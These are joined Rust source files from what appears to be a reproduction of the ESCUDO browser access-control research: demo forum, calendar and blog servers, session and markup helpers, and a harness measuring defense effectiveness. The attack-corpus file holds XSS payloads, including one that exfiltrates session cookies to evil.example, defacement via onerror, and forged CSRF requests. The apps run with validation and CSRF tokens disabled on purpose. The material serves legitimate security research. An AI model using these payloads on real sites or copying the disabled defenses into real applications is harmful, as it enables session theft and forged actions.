        let page = app.handle(&Request::get("http://blog.example/").unwrap());
        assert!(page.body.contains("id=\"post\""));
        assert!(page.body.contains("id=\"ad-slot\""));
        assert!(page.body.contains("ring=\"1\""));
        assert!(page.body.contains("ring=\"2\""));
        assert!(page.body.contains("id=\"comment-form\""));
        assert_eq!(page.api_policies().len(), 2);
    }

    #[test]
    fn comments_are_stored_and_rendered_in_ring_3() {
        let mut app = BlogApp::new();
        app.handle(
            &Request::post_form(
                "http://blog.example/comment",
                &[("author", "eve"), ("body", "<script>x()</script>")],
            )
            .unwrap(),
        );
        assert_eq!(
            app.state().lock().expect("app state lock").comments.len(),
            1
        );
        let page = app.handle(&Request::get("http://blog.example/").unwrap());
        assert!(page.body.contains("id=\"comment-1\""));
        assert!(page.body.contains("ring=\"3\""));
        // Input validation is off by default in this demo app, so the payload is raw.
        assert!(page.body.contains("<script>x()</script>"));
    }

    #[test]
    fn the_ad_script_is_replaceable_and_legacy_mode_drops_config() {
        let mut app = BlogApp::new().with_ad_script("var x = 'malicious';");
        let page = app.handle(&Request::get("http://blog.example/").unwrap());
        assert!(page.body.contains("var x = 'malicious';"));

        let mut legacy = BlogApp::legacy();
        let page = legacy.handle(&Request::get("http://blog.example/").unwrap());
        assert!(!page.body.contains("ring="));
        assert!(page.cookie_policies().is_empty());
    }

    #[test]
    fn login_and_unknown_routes() {
        let mut app = BlogApp::new();
        let response = app.handle(&Request::get("http://blog.example/login?user=reader").unwrap());
        assert_eq!(response.set_cookies().len(), 1);
        assert_eq!(
            app.handle(&Request::get("http://blog.example/missing").unwrap())
                .status,
            StatusCode::NOT_FOUND
        );
    }
}
