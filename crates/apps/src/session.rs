//! Server-side session management.
//!
//! Both case-study applications track logged-in users with a session-identifier cookie
//! — the resource whose confidentiality and "use" ESCUDO protects (Table 3/5 assign
//! the session cookies to ring 1).

use std::collections::HashMap;
use std::fmt;

/// A logged-in session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Session {
    /// The user name the session belongs to.
    pub user: String,
    /// The anti-CSRF secret token issued to this session (used only when the
    /// application's token defense is enabled).
    pub csrf_token: String,
}

/// The server-side session store.
#[derive(Debug, Default)]
pub struct SessionStore {
    sessions: HashMap<String, Session>,
    counter: u64,
    seed: u64,
}

impl SessionStore {
    /// Creates a store whose identifiers derive from `seed` (deterministic for tests).
    #[must_use]
    pub fn new(seed: u64) -> Self {
        SessionStore {
            sessions: HashMap::new(),
            counter: 0,
            seed,
        }
    }

    /// Creates a session for `user` and returns its identifier.
    pub fn create(&mut self, user: &str) -> String {
        self.counter += 1;
        let raw = self
            .seed
            .wrapping_mul(0x9E37_79B9_7F4A_7C15)
            .wrapping_add(self.counter.wrapping_mul(0x2545_F491_4F6C_DD1D));
        let sid = format!("sid{raw:016x}");
        let csrf_token = format!("tok{:016x}", raw.rotate_left(17) ^ 0xA5A5_5A5A_DEAD_BEEF);
        self.sessions.insert(
            sid.clone(),
            Session {
                user: user.to_string(),
                csrf_token,
            },
        );
        sid
    }

    /// Looks up the session for a session identifier.
    #[must_use]
    pub fn get(&self, sid: &str) -> Option<&Session> {
        self.sessions.get(sid)
    }

    /// Destroys a session. Returns `true` if it existed.
    pub fn destroy(&mut self, sid: &str) -> bool {
        self.sessions.remove(sid).is_some()
    }

    /// Number of live sessions.
    #[must_use]
    pub fn len(&self) -> usize {
        self.sessions.len()
    }

    /// `true` when no sessions exist.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.sessions.is_empty()
    }
}

impl fmt::Display for SessionStore {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} active sessions", self.sessions.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn create_lookup_destroy() {
        let mut store = SessionStore::new(42);
        let sid = store.create("alice");
        assert_eq!(store.get(&sid).unwrap().user, "alice");
        assert!(!store.get(&sid).unwrap().csrf_token.is_empty());
        assert_eq!(store.len(), 1);
        assert!(store.destroy(&sid));
        assert!(!store.destroy(&sid));
        assert!(store.is_empty());
    }

    #[test]
    fn identifiers_are_unique_and_seed_dependent() {
        let mut a = SessionStore::new(1);
        let mut b = SessionStore::new(2);
        let sid_a1 = a.create("u");
        let sid_a2 = a.create("u");
        let sid_b1 = b.create("u");
        assert_ne!(sid_a1, sid_a2);
        assert_ne!(sid_a1, sid_b1);
    }

    #[test]
    fn unknown_sessions_are_not_found() {
        let store = SessionStore::new(1);
        assert!(store.get("sid-forged").is_none());
    }
}
