//! The §6.4 attack corpus: four XSS attacks and five CSRF attacks per application.
//!
//! Each attack is *data* — a payload plus a machine-checkable goal — so the same
//! corpus drives the integration tests, the defense-effectiveness experiment and the
//! examples. As in the paper, the applications are run with their conventional
//! defenses (input validation, secret tokens) switched off so the attacks actually
//! reach the browser.

use crate::attacker::CsrfVector;

/// Which application an attack targets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TargetApp {
    /// The phpBB-like forum.
    Forum,
    /// The PHP-Calendar-like calendar.
    Calendar,
}

/// The class of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackKind {
    /// Cross-site scripting.
    Xss,
    /// Cross-site request forgery.
    Csrf,
}

/// What an XSS payload tries to achieve — and how the harness checks whether it did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum XssGoal {
    /// Issue a state-changing request (new topic / new event) on behalf of the victim
    /// via `XMLHttpRequest`, riding on the victim's session.
    ActOnBehalfOfVictim,
    /// Modify existing trusted content in the page through the DOM API.
    ModifyExistingContent,
    /// Read `document.cookie` and exfiltrate it to the attacker's site.
    StealSessionCookie,
    /// Use an injected UI event handler (`onerror`) to modify trusted content.
    HandlerDefacement,
}

/// One cross-site-scripting attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XssAttack {
    /// Short identifier, e.g. `forum-xss-1`.
    pub id: &'static str,
    /// Human-readable name.
    pub name: &'static str,
    /// The application it targets.
    pub app: TargetApp,
    /// What the payload tries to do.
    pub goal: XssGoal,
    /// The HTML payload submitted as user content (forum reply / calendar event).
    pub payload: String,
    /// When set, the harness fires this `(element id, event)` after loading the page —
    /// used by the handler-injection attacks, standing in for a failed image load.
    pub trigger_event: Option<(&'static str, &'static str)>,
}

/// One cross-site-request-forgery attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CsrfAttack {
    /// Short identifier, e.g. `forum-csrf-1`.
    pub id: &'static str,
    /// Human-readable name.
    pub name: &'static str,
    /// The application it targets.
    pub app: TargetApp,
    /// How the attacker page delivers the forged request.
    pub vector: CsrfVector,
    /// A marker string that shows up in the forged state change, used by the harness
    /// to recognize success.
    pub marker: &'static str,
}

/// The four XSS attacks against the forum (§6.4: "In phpBB, we created XSS attacks for
/// posting new messages on behalf of victim users and for modifying existing
/// messages").
#[must_use]
pub fn forum_xss_attacks() -> Vec<XssAttack> {
    vec![
        XssAttack {
            id: "forum-xss-1",
            name: "post a new topic on behalf of the victim via XMLHttpRequest",
            app: TargetApp::Forum,
            goal: XssGoal::ActOnBehalfOfVictim,
            payload: "<script>\
                      var xhr = new XMLHttpRequest();\
                      xhr.open('POST', '/posting.php');\
                      xhr.send('mode=post&subject=xss-spam&message=posted+by+xss');\
                      </script>"
                .to_string(),
            trigger_event: None,
        },
        XssAttack {
            id: "forum-xss-2",
            name: "modify an existing message through the DOM API",
            app: TargetApp::Forum,
            goal: XssGoal::ModifyExistingContent,
            payload: "<script>\
                      document.getElementById('topic-1').innerHTML = 'defaced by xss';\
                      </script>"
                .to_string(),
            trigger_event: None,
        },
        XssAttack {
            id: "forum-xss-3",
            name: "steal the session cookie and exfiltrate it to the attacker",
            app: TargetApp::Forum,
            goal: XssGoal::StealSessionCookie,
            payload: "<script>\
                      var loot = document.cookie;\
                      var beacon = document.createElement('img');\
                      beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                      document.body.appendChild(beacon);\
                      </script>"
                .to_string(),
            trigger_event: None,
        },
        XssAttack {
            id: "forum-xss-4",
            name: "deface application content from an injected onerror handler",
            app: TargetApp::Forum,
            goal: XssGoal::HandlerDefacement,
            payload: "<img id=\"xss-img\" src=\"http://missing.invalid/x.png\" \
                      onerror=\"document.getElementById('app-status').innerHTML = 'xss-by-handler';\">"
                .to_string(),
            trigger_event: Some(("xss-img", "error")),
        },
    ]
}

/// The four XSS attacks against the calendar (§6.4: "In PHP-Calendar, we created XSS
/// attacks for creating new events on behalf of victim users, and modifying existing
/// events").
#[must_use]
pub fn calendar_xss_attacks() -> Vec<XssAttack> {
    vec![
        XssAttack {
            id: "calendar-xss-1",
            name: "create a new event on behalf of the victim via XMLHttpRequest",
            app: TargetApp::Calendar,
            goal: XssGoal::ActOnBehalfOfVictim,
            payload: "<script>\
                      var xhr = new XMLHttpRequest();\
                      xhr.open('POST', '/index.php');\
                      xhr.send('action=add&title=xss-event&description=created+by+xss');\
                      </script>"
                .to_string(),
            trigger_event: None,
        },
        XssAttack {
            id: "calendar-xss-2",
            name: "modify an existing event through the DOM API",
            app: TargetApp::Calendar,
            goal: XssGoal::ModifyExistingContent,
            payload: "<script>\
                      document.getElementById('event-1').innerHTML = 'defaced by xss';\
                      </script>"
                .to_string(),
            trigger_event: None,
        },
        XssAttack {
            id: "calendar-xss-3",
            name: "steal the session cookie and exfiltrate it to the attacker",
            app: TargetApp::Calendar,
            goal: XssGoal::StealSessionCookie,
            payload: "<script>\
                      var loot = document.cookie;\
                      var beacon = document.createElement('img');\
                      beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                      document.body.appendChild(beacon);\
                      </script>"
                .to_string(),
            trigger_event: None,
        },
        XssAttack {
            id: "calendar-xss-4",
            name: "deface application content from an injected onerror handler",
            app: TargetApp::Calendar,
            goal: XssGoal::HandlerDefacement,
            payload: "<img id=\"xss-img\" src=\"http://missing.invalid/x.png\" \
                      onerror=\"document.getElementById('app-status').innerHTML = 'xss-by-handler';\">"
                .to_string(),
            trigger_event: Some(("xss-img", "error")),
        },
    ]
}

/// The five CSRF attacks against the forum.
#[must_use]
pub fn forum_csrf_attacks() -> Vec<CsrfAttack> {
    vec![
        CsrfAttack {
            id: "forum-csrf-1",
            name: "forge a new topic with an auto-loading image (GET)",
            app: TargetApp::Forum,
            vector: CsrfVector::ImageGet {
                target: "http://forum.example/posting.php?mode=post&subject=csrf-img-topic&message=forged"
                    .to_string(),
            },
            marker: "csrf-img-topic",
        },
        CsrfAttack {
            id: "forum-csrf-2",
            name: "forge a new topic with an auto-submitted form (POST)",
            app: TargetApp::Forum,
            vector: CsrfVector::FormPost {
                target: "http://forum.example/posting.php".to_string(),
                fields: vec![
                    ("mode".to_string(), "post".to_string()),
                    ("subject".to_string(), "csrf-form-topic".to_string()),
                    ("message".to_string(), "forged".to_string()),
                ],
            },
            marker: "csrf-form-topic",
        },
        CsrfAttack {
            id: "forum-csrf-3",
            name: "forge a reply to an existing topic (POST)",
            app: TargetApp::Forum,
            vector: CsrfVector::FormPost {
                target: "http://forum.example/posting.php".to_string(),
                fields: vec![
                    ("mode".to_string(), "reply".to_string()),
                    ("t".to_string(), "1".to_string()),
                    ("message".to_string(), "csrf-forged-reply".to_string()),
                ],
            },
            marker: "csrf-forged-reply",
        },
        CsrfAttack {
            id: "forum-csrf-4",
            name: "forge a private message with an auto-loading image (GET)",
            app: TargetApp::Forum,
            vector: CsrfVector::ImageGet {
                target: "http://forum.example/pm.php?to=admin&message=csrf-img-pm".to_string(),
            },
            marker: "csrf-img-pm",
        },
        CsrfAttack {
            id: "forum-csrf-5",
            name: "forge a private message with an auto-submitted form (POST)",
            app: TargetApp::Forum,
            vector: CsrfVector::FormPost {
                target: "http://forum.example/pm.php".to_string(),
                fields: vec![
                    ("to".to_string(), "admin".to_string()),
                    ("message".to_string(), "csrf-form-pm".to_string()),
                ],
            },
            marker: "csrf-form-pm",
        },
    ]
}

/// The five CSRF attacks against the calendar.
#[must_use]
pub fn calendar_csrf_attacks() -> Vec<CsrfAttack> {
    vec![
        CsrfAttack {
            id: "calendar-csrf-1",
            name: "forge a new event with an auto-loading image (GET)",
            app: TargetApp::Calendar,
            vector: CsrfVector::ImageGet {
                target: "http://calendar.example/index.php?action=add&title=csrf-img-event&description=forged"
                    .to_string(),
            },
            marker: "csrf-img-event",
        },
        CsrfAttack {
            id: "calendar-csrf-2",
            name: "forge a new event with an auto-submitted form (POST)",
            app: TargetApp::Calendar,
            vector: CsrfVector::FormPost {
                target: "http://calendar.example/index.php".to_string(),
                fields: vec![
                    ("action".to_string(), "add".to_string()),
                    ("title".to_string(), "csrf-form-event".to_string()),
                    ("description".to_string(), "forged".to_string()),
                ],
            },
            marker: "csrf-form-event",
        },
        CsrfAttack {
            id: "calendar-csrf-3",
            name: "overwrite an existing event with an auto-loading image (GET)",
            app: TargetApp::Calendar,
            vector: CsrfVector::ImageGet {
                target: "http://calendar.example/index.php?action=edit&id=1&description=csrf-img-edit"
                    .to_string(),
            },
            marker: "csrf-img-edit",
        },
        CsrfAttack {
            id: "calendar-csrf-4",
            name: "overwrite an existing event with an auto-submitted form (POST)",
            app: TargetApp::Calendar,
            vector: CsrfVector::FormPost {
                target: "http://calendar.example/index.php".to_string(),
                fields: vec![
                    ("action".to_string(), "edit".to_string()),
                    ("id".to_string(), "1".to_string()),
                    ("description".to_string(), "csrf-form-edit".to_string()),
                ],
            },
            marker: "csrf-form-edit",
        },
        CsrfAttack {
            id: "calendar-csrf-5",
            name: "flood the calendar with a second forged event (GET)",
            app: TargetApp::Calendar,
            vector: CsrfVector::ImageGet {
                target: "http://calendar.example/index.php?action=add&title=csrf-flood&description=forged"
                    .to_string(),
            },
            marker: "csrf-flood",
        },
    ]
}

/// The whole corpus, for iteration in experiments.
#[must_use]
pub fn all_xss_attacks() -> Vec<XssAttack> {
    let mut attacks = forum_xss_attacks();
    attacks.extend(calendar_xss_attacks());
    attacks
}

/// The whole CSRF corpus.
#[must_use]
pub fn all_csrf_attacks() -> Vec<CsrfAttack> {
    let mut attacks = forum_csrf_attacks();
    attacks.extend(calendar_csrf_attacks());
    attacks
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_sizes_match_the_paper() {
        // "We created 4 XSS attacks for each web application."
        assert_eq!(forum_xss_attacks().len(), 4);
        assert_eq!(calendar_xss_attacks().len(), 4);
        // "We created five CSRF attacks for each web application."
        assert_eq!(forum_csrf_attacks().len(), 5);
        assert_eq!(calendar_csrf_attacks().len(), 5);
        assert_eq!(all_xss_attacks().len(), 8);
        assert_eq!(all_csrf_attacks().len(), 10);
    }

    #[test]
    fn identifiers_are_unique() {
        let mut ids: Vec<&str> = all_xss_attacks().iter().map(|a| a.id).collect();
        ids.extend(all_csrf_attacks().iter().map(|a| a.id));
        let count = ids.len();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), count);
    }

    #[test]
    fn xss_goals_cover_all_four_categories_per_app() {
        for attacks in [forum_xss_attacks(), calendar_xss_attacks()] {
            let goals: Vec<XssGoal> = attacks.iter().map(|a| a.goal).collect();
            assert!(goals.contains(&XssGoal::ActOnBehalfOfVictim));
            assert!(goals.contains(&XssGoal::ModifyExistingContent));
            assert!(goals.contains(&XssGoal::StealSessionCookie));
            assert!(goals.contains(&XssGoal::HandlerDefacement));
        }
    }

    #[test]
    fn csrf_attacks_use_both_get_and_post_vectors() {
        for attacks in [forum_csrf_attacks(), calendar_csrf_attacks()] {
            assert!(attacks
                .iter()
                .any(|a| matches!(a.vector, CsrfVector::ImageGet { .. })));
            assert!(attacks
                .iter()
                .any(|a| matches!(a.vector, CsrfVector::FormPost { .. })));
        }
    }
}
