//! # escudo-apps
//!
//! The web applications used in the paper's evaluation, rebuilt as in-memory Rust
//! servers so the whole evaluation is reproducible on a laptop:
//!
//! * [`forum`] — a multi-user message board modelled on **phpBB** (topics, replies,
//!   private messages, sessions), with the exact ESCUDO configuration of Table 3,
//! * [`calendar`] — a group calendar modelled on **PHP-Calendar** (events, sessions)
//!   with the configuration of Table 5,
//! * [`blog`] — the blog page of Figure 3 (trusted post, untrusted comments, an
//!   advertising slot), used by the quickstart example,
//! * [`attacker`] — a malicious site that mounts the cross-site request forgeries,
//! * [`attacks`] — the §6.4 attack corpus: 4 XSS and 5 CSRF attacks per application,
//! * [`spa`] — a single-page app whose content is script-assembled at load time,
//! * [`adnet`] — a news publisher leasing N ad slots to distinct third-party origins,
//! * [`vault`] — a WebPol-style profile whose protection sits on individual elements,
//! * [`scenario`] — the scenario registry: every app, attack set and expected verdict
//!   behind one (app × attack × policy-mode) matrix with a generic executor,
//! * [`evaluate`] — the §6.4 defense-effectiveness view over the matrix,
//! * [`template`] / [`markup`] / [`session`] — the supporting pieces (a small template
//!   engine, AC-tag emission with markup-randomization nonces, session management).
//!
//! Both applications support switching their conventional defenses off (input
//! validation, secret-token CSRF checks), mirroring §6.4: "For the purpose of
//! evaluation, we removed some protection mechanisms in the applications to facilitate
//! the attacks."

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod adnet;
pub mod attacker;
pub mod attacks;
pub mod blog;
pub mod calendar;
pub mod evaluate;
pub mod forum;
pub mod markup;
pub mod scenario;
pub mod session;
pub mod spa;
pub mod template;
pub mod vault;

pub use adnet::{AdServer, NewsSite};
pub use attacks::{AttackKind, CsrfAttack, XssAttack};
pub use blog::BlogApp;
pub use calendar::{CalendarApp, CalendarConfig, CalendarState};
pub use evaluate::{AttackResult, DefenseReport};
pub use forum::{ForumApp, ForumConfig, ForumState};
pub use scenario::{
    install_chaos_hook, registry, CaseKind, CellRun, ChaosGuard, ChaosHook, Expectation,
    MatrixReport, Scenario, ScenarioCase, ScenarioOutcome, Verdict, WorkloadTag,
};
pub use spa::SpaApp;
pub use vault::VaultApp;
