//! # escudo-apps
//!
//! The web applications used in the paper's evaluation, rebuilt as in-memory Rust
//! servers so the whole evaluation is reproducible on a laptop:
//!
//! * [`forum`] — a multi-user message board modelled on **phpBB** (topics, replies,
//!   private messages, sessions), with the exact ESCUDO configuration of Table 3,
//! * [`calendar`] — a group calendar modelled on **PHP-Calendar** (events, sessions)
//!   with the configuration of Table 5,
//! * [`blog`] — the blog page of Figure 3 (trusted post, untrusted comments, an
//!   advertising slot), used by the quickstart example,
//! * [`attacker`] — a malicious site that mounts the cross-site request forgeries,
//! * [`attacks`] — the §6.4 attack corpus: 4 XSS and 5 CSRF attacks per application,
//! * [`evaluate`] — the harness that stages each attack against a browser in either
//!   policy mode and reports whether it succeeded or was neutralized,
//! * [`template`] / [`markup`] / [`session`] — the supporting pieces (a small template
//!   engine, AC-tag emission with markup-randomization nonces, session management).
//!
//! Both applications support switching their conventional defenses off (input
//! validation, secret-token CSRF checks), mirroring §6.4: "For the purpose of
//! evaluation, we removed some protection mechanisms in the applications to facilitate
//! the attacks."

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod attacker;
pub mod attacks;
pub mod blog;
pub mod calendar;
pub mod evaluate;
pub mod forum;
pub mod markup;
pub mod session;
pub mod template;

pub use attacks::{AttackKind, CsrfAttack, XssAttack};
pub use blog::BlogApp;
pub use calendar::{CalendarApp, CalendarConfig, CalendarState};
pub use evaluate::{AttackResult, DefenseReport};
pub use forum::{ForumApp, ForumConfig, ForumState};
