//! Server-side emission of ESCUDO access-control tags.
//!
//! Applications wrap each region of their pages in an AC tag whose `ring`/`r`/`w`/`x`
//! attributes carry the configuration and whose `nonce` implements markup
//! randomization: the nonce is repeated on the end tag and unpredictable to content
//! authors, which is what defeats node-splitting (§5).

use escudo_core::nonce::NonceGenerator;
use escudo_core::{Acl, Nonce, Ring};

/// A helper that emits AC-tagged regions with fresh nonces.
#[derive(Debug, Clone)]
pub struct AcMarkup {
    nonces: NonceGenerator,
    /// When `false`, no ESCUDO attributes are emitted at all — used to generate the
    /// "legacy application" variant of each page for the compatibility experiments.
    enabled: bool,
}

impl AcMarkup {
    /// Creates a generator seeded for reproducible page construction.
    #[must_use]
    pub fn new(seed: u64, enabled: bool) -> Self {
        AcMarkup {
            nonces: NonceGenerator::from_seed(seed),
            enabled,
        }
    }

    /// Whether ESCUDO attributes are being emitted.
    #[must_use]
    pub fn enabled(&self) -> bool {
        self.enabled
    }

    /// Wraps `inner` in an AC-tagged `<div>` with the given ring and ACL.
    pub fn region(&mut self, ring: Ring, acl: Acl, extra_attrs: &str, inner: &str) -> String {
        self.region_with_tag("div", ring, acl, extra_attrs, inner)
    }

    /// Wraps `inner` in an AC-tagged element with the given tag name, ring and ACL.
    pub fn region_with_tag(
        &mut self,
        tag: &str,
        ring: Ring,
        acl: Acl,
        extra_attrs: &str,
        inner: &str,
    ) -> String {
        if !self.enabled {
            return format!("<{tag} {extra_attrs}>{inner}</{tag}>");
        }
        let nonce = self.nonces.next_nonce();
        format!(
            "<{tag} ring=\"{}\" r=\"{}\" w=\"{}\" x=\"{}\" nonce=\"{nonce}\" {extra_attrs}>{inner}</{tag} nonce=\"{nonce}\">",
            ring.level(),
            acl.read.level(),
            acl.write.level(),
            acl.use_.level(),
        )
    }

    /// The ESCUDO attribute string (without nonce) for embedding in a custom tag.
    #[must_use]
    pub fn attributes(ring: Ring, acl: Acl) -> String {
        format!(
            "ring=\"{}\" r=\"{}\" w=\"{}\" x=\"{}\"",
            ring.level(),
            acl.read.level(),
            acl.write.level(),
            acl.use_.level()
        )
    }

    /// Draws a fresh nonce (for applications that hand-build a tag).
    pub fn next_nonce(&mut self) -> Nonce {
        self.nonces.next_nonce()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn regions_carry_ring_acl_and_matching_nonces() {
        let mut markup = AcMarkup::new(7, true);
        let html = markup.region(
            Ring::new(3),
            Acl::new(Ring::new(2), Ring::new(2), Ring::new(2)),
            "id=\"comment\"",
            "user text",
        );
        assert!(html.contains("ring=\"3\""));
        assert!(html.contains("r=\"2\""));
        assert!(html.contains("w=\"2\""));
        assert!(html.contains("x=\"2\""));
        assert!(html.contains("id=\"comment\""));
        // The nonce appears exactly twice: once on the open tag, once on the close tag.
        let nonce_count = html.matches("nonce=\"").count();
        assert_eq!(nonce_count, 2);
        let first = html.find("nonce=\"").unwrap();
        let nonce_value: String = html[first + 7..]
            .chars()
            .take_while(|c| c.is_ascii_digit())
            .collect();
        assert!(html.ends_with(&format!("</div nonce=\"{nonce_value}\">")));
    }

    #[test]
    fn nonces_differ_between_regions() {
        let mut markup = AcMarkup::new(7, true);
        let a = markup.region(Ring::new(1), Acl::uniform(Ring::new(1)), "", "a");
        let b = markup.region(Ring::new(1), Acl::uniform(Ring::new(1)), "", "b");
        let nonce_of = |s: &str| -> String {
            let i = s.find("nonce=\"").unwrap();
            s[i + 7..]
                .chars()
                .take_while(char::is_ascii_digit)
                .collect()
        };
        assert_ne!(nonce_of(&a), nonce_of(&b));
    }

    #[test]
    fn disabled_markup_emits_plain_tags() {
        let mut markup = AcMarkup::new(7, false);
        let html = markup.region(Ring::new(3), Acl::uniform(Ring::new(3)), "id=\"x\"", "text");
        assert_eq!(html, "<div id=\"x\">text</div>");
        assert!(!markup.enabled());
    }

    #[test]
    fn custom_tags_are_supported() {
        let mut markup = AcMarkup::new(9, true);
        let html = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            "content",
        );
        assert!(html.starts_with("<body ring=\"1\""));
        assert!(html.contains("</body nonce=\""));
    }

    #[test]
    fn attribute_helper_matches_the_header_free_form() {
        let attrs = AcMarkup::attributes(
            Ring::new(2),
            Acl::new(Ring::new(1), Ring::new(0), Ring::new(2)),
        );
        assert_eq!(attrs, "ring=\"2\" r=\"1\" w=\"0\" x=\"2\"");
    }
}
