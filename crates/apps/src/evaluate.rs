//! The defense-effectiveness harness (§6.4).
//!
//! Every attack from [`crate::attacks`] is staged end-to-end: the victim logs into the
//! vulnerable application, attacker-controlled content is planted (XSS) or a malicious
//! site is visited (CSRF), and the harness then inspects the *server-side state* and
//! the attacker's exfiltration log to decide whether the attack achieved its goal.
//! Running the same staging under [`PolicyMode::SameOriginOnly`] and
//! [`PolicyMode::Escudo`] reproduces the paper's result: every attack that succeeds
//! under the same-origin policy is neutralized by ESCUDO.

use std::fmt;

use escudo_browser::{Browser, PolicyMode};
use escudo_dom::EventType;

use crate::attacker::{AttackerSite, CsrfVector};
use crate::attacks::{
    all_csrf_attacks, all_xss_attacks, AttackKind, CsrfAttack, TargetApp, XssAttack, XssGoal,
};
use crate::calendar::{CalendarApp, CalendarConfig, Event, SESSION_COOKIE};
use crate::forum::{ForumApp, ForumConfig, Reply, Topic, SID_COOKIE};

/// The outcome of staging one attack under one policy mode.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackResult {
    /// Attack identifier (e.g. `forum-xss-1`).
    pub id: String,
    /// Human-readable attack name.
    pub name: String,
    /// XSS or CSRF.
    pub kind: AttackKind,
    /// Target application.
    pub app: TargetApp,
    /// The policy mode the browser enforced.
    pub mode: PolicyMode,
    /// Did the attack achieve its goal?
    pub succeeded: bool,
    /// How many reference-monitor denials were recorded while staging the attack.
    pub denials: u64,
}

impl fmt::Display for AttackResult {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:<16} [{:<11}] {:>12}: {}",
            self.id,
            self.mode,
            if self.succeeded {
                "SUCCEEDED"
            } else {
                "neutralized"
            },
            self.name
        )
    }
}

/// The full §6.4 experiment: every attack under both policy modes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DefenseReport {
    /// All results (one per attack per mode).
    pub results: Vec<AttackResult>,
}

impl DefenseReport {
    /// Stages the complete corpus under both policy modes.
    #[must_use]
    pub fn run_full() -> Self {
        let mut results = Vec::new();
        for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
            for attack in all_xss_attacks() {
                results.push(run_xss(mode, &attack));
            }
            for attack in all_csrf_attacks() {
                results.push(run_csrf(mode, &attack));
            }
        }
        DefenseReport { results }
    }

    /// Results for one policy mode.
    #[must_use]
    pub fn for_mode(&self, mode: PolicyMode) -> Vec<&AttackResult> {
        self.results.iter().filter(|r| r.mode == mode).collect()
    }

    /// Number of attacks that succeed under the given mode.
    #[must_use]
    pub fn successes(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode).iter().filter(|r| r.succeeded).count()
    }

    /// Number of attacks neutralized under the given mode.
    #[must_use]
    pub fn neutralized(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode).iter().filter(|r| !r.succeeded).count()
    }
}

// --------------------------------------------------------------------- XSS staging

/// Stages one XSS attack under one policy mode.
#[must_use]
pub fn run_xss(mode: PolicyMode, attack: &XssAttack) -> AttackResult {
    match attack.app {
        TargetApp::Forum => run_forum_xss(mode, attack),
        TargetApp::Calendar => run_calendar_xss(mode, attack),
    }
}

fn run_forum_xss(mode: PolicyMode, attack: &XssAttack) -> AttackResult {
    let forum = ForumApp::new(ForumConfig::vulnerable());
    let state = forum.state();
    let attacker = AttackerSite::new();
    let stolen = attacker.stolen();

    let mut browser = Browser::new(mode);
    browser
        .network_mut()
        .register("http://forum.example", forum);
    browser
        .network_mut()
        .register("http://evil.example", attacker);

    // The victim logs in, establishing the session cookie ESCUDO protects.
    browser
        .navigate("http://forum.example/login.php?user=victim")
        .expect("victim login");

    // Seed a topic authored by the victim and plant the attacker's payload as a reply
    // (input validation is off, as in the paper's staging).
    {
        let mut forum_state = state.lock().expect("app state lock");
        forum_state.topics.push(Topic {
            id: 1,
            title: "Welcome".to_string(),
            author: "victim".to_string(),
            body: "original message".to_string(),
        });
        forum_state.replies.push(Reply {
            id: 1,
            topic_id: 1,
            author: "mallory".to_string(),
            body: attack.payload.clone(),
        });
    }

    // The victim views the topic, which executes whatever the payload injected.
    let page = browser
        .navigate("http://forum.example/viewtopic.php?t=1")
        .expect("victim views the topic");
    if let Some((element, event)) = attack.trigger_event {
        let event: EventType = event.parse().expect("known event type");
        let _ = browser.fire_event(page, element, event);
    }

    let succeeded = match attack.goal {
        XssGoal::ActOnBehalfOfVictim => state
            .lock()
            .expect("app state lock")
            .topics
            .iter()
            .any(|t| t.title == "xss-spam" && t.author == "victim"),
        XssGoal::ModifyExistingContent => browser
            .page(page)
            .text_of("topic-1")
            .is_some_and(|text| text.contains("defaced by xss")),
        XssGoal::StealSessionCookie => stolen
            .lock()
            .expect("app state lock")
            .iter()
            .any(|query| query.contains(SID_COOKIE)),
        XssGoal::HandlerDefacement => browser
            .page(page)
            .text_of("app-status")
            .is_some_and(|text| text.contains("xss-by-handler")),
    };

    result(attack, mode, succeeded, browser.erm().denials())
}

fn run_calendar_xss(mode: PolicyMode, attack: &XssAttack) -> AttackResult {
    let calendar = CalendarApp::new(CalendarConfig::vulnerable());
    let state = calendar.state();
    let attacker = AttackerSite::new();
    let stolen = attacker.stolen();

    let mut browser = Browser::new(mode);
    browser
        .network_mut()
        .register("http://calendar.example", calendar);
    browser
        .network_mut()
        .register("http://evil.example", attacker);

    browser
        .navigate("http://calendar.example/login.php?user=victim")
        .expect("victim login");

    {
        let mut calendar_state = state.lock().expect("app state lock");
        calendar_state.events.push(Event {
            id: 1,
            day: 10,
            title: "Welcome party".to_string(),
            description: "original description".to_string(),
            author: "victim".to_string(),
        });
        calendar_state.events.push(Event {
            id: 2,
            day: 11,
            title: "Potluck".to_string(),
            description: attack.payload.clone(),
            author: "mallory".to_string(),
        });
    }

    let page = browser
        .navigate("http://calendar.example/index.php")
        .expect("victim views the calendar");
    if let Some((element, event)) = attack.trigger_event {
        let event: EventType = event.parse().expect("known event type");
        let _ = browser.fire_event(page, element, event);
    }

    let succeeded = match attack.goal {
